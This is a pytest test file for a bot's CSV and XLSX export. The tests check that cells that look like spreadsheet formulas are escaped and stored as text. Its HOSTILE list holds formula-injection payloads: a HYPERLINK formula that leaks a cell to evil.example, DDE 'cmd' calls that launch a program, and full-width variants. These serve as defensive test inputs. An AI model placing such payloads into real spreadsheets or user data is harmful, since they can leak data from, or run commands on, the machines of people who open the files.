"""What people typed (a unit's name, a post title, an official's opinion) reaches Excel and WPS
as text, never as a formula: CSV cells that start like one are written behind a single quote,
XLSX cells are string cells. Plain numbers, negative ones too, stay numbers."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from bot.cli_export import export_app
from bot.runtime_context import open_storage
from documents.tables import csv_bytes, xlsx_bytes
from services.case_export import export_cases
from storage.migrate import upgrade
from storage.models import Case, Complaint, Cycle, Result, Unit, Worker

NOW = datetime(2026, 12, 28, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1＋1",
    "＋86 138",
    "－1＋1",
    "＠SUM(A1)",
]
PLAIN = ["张三", "-12.5", "-3", "42", "0.5", "城关镇 = 县城", ""]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_that_starts_like_a_formula_is_quoted(value):
    [header, line] = read_csv(csv_bytes([["单位", "备注"], [value, "正常"]]))
    assert header == ["单位", "备注"]
    assert line == ["'" + value, "正常"]


def test_plain_text_and_numbers_are_written_as_they_are():
    [line] = read_csv(csv_bytes([PLAIN]))
    assert line == PLAIN


def test_xlsx_cells_are_strings_never_formulas():
    content = xlsx_bytes([["单位"], *([value] for value in HOSTILE)], sheet="s", title="t")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=3)]  # after the title and a blank row
    assert {cell.data_type for cell in cells} == {"s"}
    # The text as typed (openpyxl reads a carriage return back in its escaped form).
    values = [str(cell.value).replace("_x000D_", "\r") for cell in cells]
    assert values == ["单位", *HOSTILE]


async def seed(settings, *, unit_name: str, post: str, opinion: str) -> None:
    async with open_storage(settings) as storage:
        await upgrade(storage.engine)
        async with storage.sessions() as session, session.begin():
            unit = Unit(name=unit_name, quota=5)
            cycle = Cycle(year=2026, state="closed")
            session.add_all([unit, cycle])
            await session.flush()
            worker = Worker(name="张小三", id_hash="h1", id_last4="1234", unit_id=unit.id)
            session.add(worker)
            await session.flush()
            session.add(
                Result(
                    cycle_id=cycle.id,
                    worker_id=worker.id,
                    unit_id=unit.id,
                    post_title=post,
                    grade="合格",
                    renew=True,
                    status="final",
                )
            )
            complaint = Complaint(
                ticket_code="TKFORMUL",
                cycle_id=cycle.id,
                unit_id=unit.id,
                category="conduct",
                description="……",
                submitted_at=NOW,
            )
            session.add(complaint)
            await session.flush()
            session.add(
                Case(
                    complaint_id=complaint.id,
                    cycle_id=cycle.id,
                    unit_id=unit.id,
                    category="conduct",
                    severity="minor",
                    route="unit",
                    state="closed",
                    finding="属实",
                    opinion=opinion,
                    rating=4,
                    closed_at=NOW,
                )
            )


def test_gongshi_export_subsidy_writes_no_formula(settings, tmp_path):
    unit, post = HOSTILE[0], HOSTILE[3]
    asyncio.run(seed(settings, unit_name=unit, post=post, opinion="属实"))
    from typer import Typer

    app = Typer()
    app.add_typer(export_app, name="export")
    out = tmp_path / "subsidy.csv"
    env = {
        "GONGSHI_DATABASE_URL": settings.database_url,
        "GONGSHI_SECRET_KEY": settings.secret_key.get_secret_value(),
    }
    args = ["export", "subsidy", "--cycle", "2026", "--format", "csv", "-o", str(out)]
    result = CliRunner().invoke(app, args, env=env)
    assert result.exit_code == 0, result.output
    [_header, line] = read_csv(out.read_bytes())
    assert line[0] == "'" + unit and line[3] == "'" + post
    assert line[1] == "张小三"


async def test_the_cases_export_writes_no_formula(storage):
    opinion = "-停发岗位补贴；=核减岗位"
    await seed(storage.settings, unit_name=HOSTILE[6], post="保洁", opinion=opinion)
    async with storage.sessions() as session:
        content = await export_cases(
            session=session, cycle=None, file_format="csv", now=NOW, language="zh"
        )
    [header, line] = read_csv(content)
    assert line[header.index("用人单位")] == "'" + HOSTILE[6]
    assert line[header.index("处理意见")] == "'" + opinion
    assert line[header.index("评价（1-5 分）")] == "4"
